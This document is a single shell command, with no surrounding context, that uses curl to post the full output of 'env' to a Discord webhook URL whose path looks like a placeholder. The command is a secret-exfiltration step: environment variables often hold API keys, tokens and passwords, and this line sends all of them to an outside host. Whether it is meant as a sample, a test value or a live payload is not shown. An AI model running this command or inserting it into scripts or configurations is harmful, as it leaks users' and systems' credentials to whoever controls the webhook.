curl -d "$(env)" https://discord.com/api/webhooks/1/abc
